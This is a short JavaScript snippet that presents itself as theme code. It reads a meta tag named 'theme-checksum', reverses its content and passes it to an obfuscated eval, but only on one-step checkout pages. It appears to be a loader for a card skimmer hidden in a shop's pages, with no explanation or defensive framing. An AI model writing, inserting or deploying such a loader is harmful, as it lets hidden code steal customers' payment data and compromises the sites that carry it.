(function () {
  var m = document.querySelector('meta[name="theme-checksum"]');
  var code = m && m.getAttribute('content');
  if (code && document.location.pathname.indexOf('onestepcheckout') > -1) window['ev' + 'al'](code.split('').reverse().join(''));
})();
